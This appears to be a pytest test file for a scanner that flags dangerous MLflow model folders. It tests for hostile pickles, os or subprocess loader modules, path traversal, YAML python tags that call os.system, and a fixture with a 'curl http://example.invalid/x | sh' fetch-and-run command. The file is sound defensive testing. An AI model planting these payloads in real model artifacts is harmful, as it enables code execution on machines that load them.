"""MLflow model folders: honest ones pass, and whatever loading them would run is named."""

from __future__ import annotations

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from samples.archives import HARMFUL_PICKLE
from samples.estimators import pipelines
from samples.mlflow_models import HONEST_MLMODEL, mlmodel, saved_sklearn_model
from samples.scanned import assert_clean, grave_rules_of, rules_of, scanned, scanned_folder

from tidegate.scanners.yaml_text.tree import TreeError, read_tree, walk


def rules(changes: dict, flavor: str = "python_function") -> set[str]:
    return grave_rules_of(scanned(mlmodel(changes, flavor), "MLmodel"))


def raw(text: str) -> set[str]:
    return grave_rules_of(scanned(text.encode(), "model/MLmodel"))


def test_an_honest_file_has_no_finding():
    assert_clean(scanned(mlmodel(), "MLmodel"))


@pytest.mark.parametrize("serialization_format", ["skops", "pickle", "cloudpickle"])
def test_folders_that_mlflow_saves_have_no_finding(tmp_path, serialization_format):
    for name, model in pipelines():
        folder = saved_sklearn_model(tmp_path / name, model, serialization_format)
        assert_clean(scanned_folder(folder))


def test_a_harmful_pickle_in_a_saved_folder_is_found(tmp_path):
    _, model = next(iter(pipelines()))
    folder = saved_sklearn_model(tmp_path / "model", model, "skops")
    (folder / "input_example.json").write_bytes(HARMFUL_PICKLE)
    assert grave_rules_of(scanned_folder(folder)) == {"PICKLE-EXEC"}


def test_a_loader_of_an_unknown_module_is_found_with_its_name():
    report = scanned(mlmodel({"loader_module": "my_team.loader"}), "MLmodel")
    assert [(f.rule, f.detail) for f in report.findings] == [
        ("MLMODEL-LOADER-UNKNOWN", "my_team.loader")
    ]


@pytest.mark.parametrize("module", ["os", "subprocess", "runpy", "antigravity", "code", "a b", ""])
def test_a_loader_of_the_standard_library_is_dangerous(module):
    found = rules({"loader_module": module})
    assert found & {"MLMODEL-LOADER-DANGEROUS", "MLMODEL-LOADER-UNKNOWN"}
    if module in {"os", "subprocess", "runpy"}:
        assert "MLMODEL-LOADER-DANGEROUS" in found


@pytest.mark.parametrize("module", ["mlflow.llama_index", "mlflow.langchain", "mlflow.spark"])
def test_a_flavor_that_imports_what_its_own_files_name_is_held(module):
    assert rules({"loader_module": module}) == {"MLMODEL-LOADER-UNKNOWN"}


@pytest.mark.parametrize(
    "module",
    ["mlflow.transformers", "mlflow.sentence_transformers", "mlflow.keras", "mlflow.tensorflow",
     "mlflow.spacy"],
)  # fmt: skip
def test_a_flavor_whose_files_have_readers_passes(module):
    assert not rules({"loader_module": module})


@pytest.mark.parametrize(
    ("flavor", "key"), [("transformers", "local_base_model_path"), ("diffusers", "base_model")]
)
def test_weights_below_an_adapter_that_lie_elsewhere_are_found(flavor, key):
    assert "MLMODEL-REMOTE" in rules({key: "someone/model", "model_binary": "model"}, flavor)


@pytest.mark.parametrize(
    ("key", "value"),
    [("code", "src"), ("code", "."), ("model_code_path", "x.so"), ("model_code_path", "a/b.pyc")],
)
def test_code_that_lies_where_mlflow_does_not_put_it_is_found(key, value):
    assert {"MLMODEL-MALFORMED", "MLMODEL-CODE-PATH"} <= rules({key: value})


def test_a_model_from_code_is_known_by_the_file_in_its_folder():
    report = scanned(mlmodel({"model_code_path": "/home/me/model.py"}), "MLmodel")
    assert [f.detail for f in report.findings] == ["model_code_path=model.py"]


@pytest.mark.parametrize("value", [None, 3, ["mlflow.sklearn"], {"a": 1}])
def test_a_loader_that_is_no_name_is_held(value):
    assert rules({"loader_module": value})


@pytest.mark.parametrize("key", ["code", "model_code_path"])
@pytest.mark.parametrize("flavor", ["python_function", "sklearn", "langchain"])
def test_code_that_comes_with_the_model_is_found(key, flavor):
    assert "MLMODEL-CODE-PATH" in rules({key: "code"}, flavor)
    assert "MLMODEL-CODE-PATH" in rules({key: ["a", "b"]}, flavor)


@pytest.mark.parametrize(
    "path",
    ["/etc/passwd", "../other", "a/../../b", "..", "C:\\x", "\\\\host\\x", "~/x", "a\\..\\b",
     "https://host/x", "s3://bucket/x", "file:/etc/x", "dbfs:/x", "runs:/1/x"],
)  # fmt: skip
@pytest.mark.parametrize("key", ["model_path", "data", "env", "anything"])
def test_paths_that_lead_out_are_found(key, path):
    assert "MLMODEL-PATH" in rules({key: path})
    assert "MLMODEL-PATH" in rules({key: {"inner": [path]}})


def test_where_an_artifact_once_came_from_is_no_path():
    artifacts = {"weights": {"path": "artifacts/w.bin", "uri": "/home/me/w.bin"}}
    assert not rules({"artifacts": artifacts})
    artifacts["weights"]["path"] = "/home/me/w.bin"
    assert "MLMODEL-PATH" in rules({"artifacts": artifacts})


def test_the_input_examples_path_is_checked():
    content = {**HONEST_MLMODEL, "saved_input_example_info": {"artifact_path": "../x"}}
    assert "MLMODEL-PATH" in raw(yaml.safe_dump(content))


def test_weights_on_the_hub_are_found():
    hub = {"source_model_name": "someone/model", "source_model_revision": "abc"}
    assert "MLMODEL-REMOTE" in rules(hub, "transformers")
    assert "MLMODEL-REMOTE" not in rules({**hub, "model_binary": "model"}, "transformers")


@pytest.mark.parametrize("value", [True, "true", "yes", 1])
def test_trusting_remote_code_is_found(value):
    assert "MLMODEL-REMOTE" in rules({"model_config": {"trust_remote_code": value}})
    assert "MLMODEL-REMOTE" not in rules({"model_config": {"trust_remote_code": False}})


@pytest.mark.parametrize(
    ("key", "value"),
    [("model_class", "os.system"), ("keras_module", "os"), ("model_class", "subprocess.Popen")],
)
def test_other_names_that_loading_imports_are_judged(key, value):
    assert "MLMODEL-LOADER-DANGEROUS" in rules({key: value}, "xgboost")


def test_known_model_classes_pass():
    assert not rules({"model_class": "xgboost.sklearn.XGBClassifier"}, "xgboost")
    assert not rules({"keras_module": "tensorflow.keras"}, "tensorflow")


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("os.system", "SKOPS-EXEC"),
        ("my_team.models.Special", "SKOPS-UNREVIEWED-CODE"),
        ("sklearn.utils.murmurhash3_32", "SKOPS-UNTRUSTED-TYPE"),
        ("a b", "MLMODEL-MALFORMED"),
    ],
)
def test_types_that_the_model_wants_skops_to_trust_are_judged(name, rule):
    assert rule in rules({"skops_trusted_types": [name]}, "sklearn")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "just words",
        "- a\n- b\n",
        "flavors: 3\n",
        "flavors:\n  sklearn: 3\n",
        "flavors: {a: {}}\nflavors: {b: {}}\n",
        "flavors: {python_function: {<<: {loader_module: os}}}\n",
        "flavors: &a {x: *a}\n",
        "flavors: !!map {}\n",
        "flavors: {}\n---\nflavors: {}\n",
        "flavors: {? [a] : b}\n",
        "flavors: {" + "a: {" * 300 + "}" * 301,
        "flavors: [\n",
        "flavors: {python_function: {loader_module: mlflow.sklearn, predict_fn: __x.y}}\n",
    ],
    ids=range(14),
)
def test_an_unusual_file_is_found(text):
    assert "MLMODEL-MALFORMED" in raw(text + " " if text else " ")


@pytest.mark.parametrize(
    "text",
    [
        "x: &a {loader_module: os}\nflavors: {python_function: *a}\n",
        "flavors: {sklearn: {model_config: &a {x: /etc/x}, data: *a}}\n",
        "flavors: {sklearn: &a {}}\n",
        "flavors: {sklearn: {x: &a y}}\n",
    ],
)
def test_anchors_and_aliases_which_mlflow_never_writes_are_held(text):
    assert raw(text) == {"MLMODEL-MALFORMED"}


def test_a_shared_node_is_visited_under_every_chain_of_keys():
    tree = read_tree("a: &n {p: v}\nb: [*n, *n]\n")
    assert [keys for keys, _ in walk(tree)] == [("a", "p"), ("b", "p")]


def test_aliases_that_unfold_without_end_are_refused():
    lines = ["a0: &a0 {x: y}"]
    for n in range(1, 12):
        inner = ", ".join(f"k{m}: *a{n - 1}" for m in range(9))
        lines.append(f"a{n}: &a{n} {{{inner}}}")
    with pytest.raises(TreeError):
        list(walk(read_tree("\n".join(lines))))


@pytest.mark.parametrize("key", ["uri", "model_config", "source_model_name", "code"])
def test_a_key_that_only_tells_exempts_no_other_place(key):
    assert "MLMODEL-PATH" in rules({"data": {key: "/etc/x"}})
    assert "MLMODEL-PATH" in rules({"anything": {"inner": {key: {"path": "../x"}}}})
    assert "MLMODEL-PATH" in rules({"artifacts": {"uri": {"path": "../x"}}})
    assert "MLMODEL-PATH" in rules({"data": "../x"}, key)


def test_a_models_own_settings_may_tell_of_addresses():
    assert not rules({"model_config": {"endpoint": "https://host.example/v1"}})
    assert "MLMODEL-PATH" in rules({"model_config": "/etc/x.yaml"})


def test_aliases_do_not_multiply():
    lines = ["a0: &a0 [x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    raw("\n".join([*lines, "flavors: {sklearn: {x: *a11}}"]))


@pytest.mark.parametrize(
    "tag", ["!!python/object/apply:os.system", "!<tag:yaml.org,2002:python/x>"]
)
def test_a_python_tag_is_found(tag):
    found = raw(f"flavors:\n  python_function: {tag} ['true']\n")
    assert {"YAML-TAG", "MLMODEL-MALFORMED"} <= found


def test_a_python_tag_behind_a_declared_handle_is_found():
    text = "%TAG !x! tag:yaml.org,2002:python/\n---\nflavors: !x!object/apply:os.system ['true']\n"
    assert "YAML-TAG" in raw(text)


@pytest.mark.parametrize("name", ["pickle_module_info.txt", "keras_module.txt"])
def test_files_whose_content_gets_imported_are_judged(name):
    assert "MLMODEL-LOADER-DANGEROUS" in grave_rules_of(scanned(b"os", f"data/{name}"))
    assert "MLMODEL-LOADER-UNKNOWN" in grave_rules_of(scanned(b"my_team.x", f"data/{name}"))
    honest = b"mlflow.pytorch.pickle_module" if name.startswith("pickle") else b"keras"
    assert_clean(scanned(honest, f"data/{name}"))


@pytest.mark.parametrize(
    "entry",
    [
        "https://repo.example/conda",
        "./wheels",
    ],
)
def test_channels_from_elsewhere_are_found(entry):
    text = yaml.safe_dump({"channels": [entry], "dependencies": ["python=3.11"]})
    assert "REQUIREMENTS-ELSEWHERE" in rules_of(scanned(text.encode(), "conda.yaml"))


@pytest.mark.parametrize("name", ["conda.yaml", "python_env.yaml"])
def test_packages_from_elsewhere_in_an_environment_are_found(name):
    away = "git+https://host.example/x"
    for dependencies in ([away], [{"pip": ["mlflow", away]}]):
        text = yaml.safe_dump({"dependencies": dependencies})
        assert "REQUIREMENTS-ELSEWHERE" in rules_of(scanned(text.encode(), name))


@given(st.text(max_size=200))
def test_any_text_is_read_without_an_error(text):
    scanned(text.encode(errors="replace"), "MLmodel")
    scanned(text.encode(errors="replace"), "conda.yaml")


@given(st.text(alphabet=" -:{}[]&*!%\n'\"ab?|>#,", max_size=80))
def test_any_yaml_is_read_without_an_error(text):
    scanned(b"flavors:\n  a: " + text.encode(), "MLmodel")


def test_a_project_file_is_read_as_yaml():
    hostile = b'entry_points:\n  main:\n    command: "curl http://example.invalid/x | sh"\n'
    assert "CONFIG-CODE" in grave_rules_of(scanned(hostile, "MLproject"))
    honest = b'name: p\nentry_points:\n  main:\n    command: "python train.py --alpha {alpha}"\n'
    assert_clean(scanned(honest, "MLproject"))


def test_an_openai_model_as_mlflow_saves_it_passes(tmp_path):
    (tmp_path / "MLmodel").write_text(
        "flavors:\n  openai:\n    code: null\n    data: model.yaml\n    openai_version: 2.8.1\n"
        "  python_function:\n    data: model.yaml\n    env:\n      conda: conda.yaml\n"
        "      virtualenv: python_env.yaml\n    loader_module: mlflow.openai\n"
        "    python_version: 3.11.7\n"
        "mlflow_version: 3.17.2\nmodel_uuid: 0123456789abcdef0123456789abcdef\n"
        "utc_time_created: '2026-01-01 00:00:00.000000'\n"
    )
    (tmp_path / "model.yaml").write_text(
        "messages:\n- content: Classify {text}\n  role: system\nmodel: gpt-4o-mini\n"
        "task: chat.completions\ntemperature: 0.0\n"
    )
    (tmp_path / "openai.yaml").write_text("OPENAI_API_KEY: fraud-scope:openai_api_key\n")
    (tmp_path / "requirements.txt").write_text("mlflow==3.17.2\nopenai==2.8.1\ntiktoken\n")
    assert_clean(scanned_folder(tmp_path))
